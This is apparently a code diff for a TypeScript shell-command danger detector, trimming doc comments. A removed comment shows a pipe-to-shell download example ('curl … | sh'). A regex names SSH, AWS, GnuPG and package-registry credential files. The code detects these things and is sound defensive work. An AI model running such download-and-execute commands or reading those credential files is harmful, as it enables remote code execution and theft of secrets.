@@ -7,10 +7,7 @@ import {
   type ShellWord,
 } from './shell-words.js';
 
-/*
- * Is a command dangerous that runs without a question? Null where the command is not understood.
- *     curl https://x.example/a.sh | sh          download
- */
+/* Is a command dangerous that runs without a question? Null where the command is not understood. */
 
 /** What makes a command dangerous wherever it runs without a question. */
 export type Danger =
@@ -41,16 +38,10 @@ const WRAPPERS = new Set(
 const CREDENTIALS =
   /(?:^|[/@=~])\.(?:ssh|aws|gnupg|kube)\/|\bid_(?:rsa|ed25519|ecdsa)\b|\.(?:netrc|git-credentials|npmrc|pypirc)\b/;
 
-/**
- * Levels of shells in shells that are looked into: `sh -c "sh -c '…'"` is two. Deeper ones are
- * null, so that time stays bounded.
- */
+/** Levels of shells in shells that are read (`sh -c "sh -c '…'"` is two); deeper ones are null. */
 const DEEPEST = 4;
 
-/**
- * What is dangerous in a shell command, or null. Linear; quotes are heeded, so that a command that
- * is only printed is none.
- */
+/** What is dangerous in a shell command, or null. Quotes are heeded: a command that is only printed is not. */
 export function dangerOf(text: string): Danger | null {
   const packed = text.replace(/[ \t]{2,}/g, ' '); // blanks push a command out of sight, and past every limit
   if (packed.length > LONGEST_COMMAND) return 'encoded'; // nobody reviews it, whatever it is
@@ -84,12 +75,7 @@ function dangerIn(commands: readonly ShellCommand[], depth: number): Danger | nu
   return null;
 }
 
-/**
- * What is dangerous in one command.
- *
- * @param read where that comes from which it reads through a pipe; null where that is harmless
- * @param downloaded files that commands before it have written; it adds its own
- */
+/** What is dangerous in one command. */
 function dangerAt(
   command: ShellCommand,
   read: Danger | null,
@@ -349,10 +335,7 @@ function sends(program: string, words: readonly ShellWord[]): boolean {
   );
 }
 
-/**
- * PowerShell: words in any order, no quotes of a POSIX shell. Encoded text has 24 characters at
- * least: what is shorter may be a word.
- */
+/** PowerShell: words in any order. Encoded text has 24 characters or more: what is shorter may be a word. */
 function windowsDanger(text: string): Danger | null {
   if (
     /\b(?:powershell|pwsh)\b/i.test(text) &&
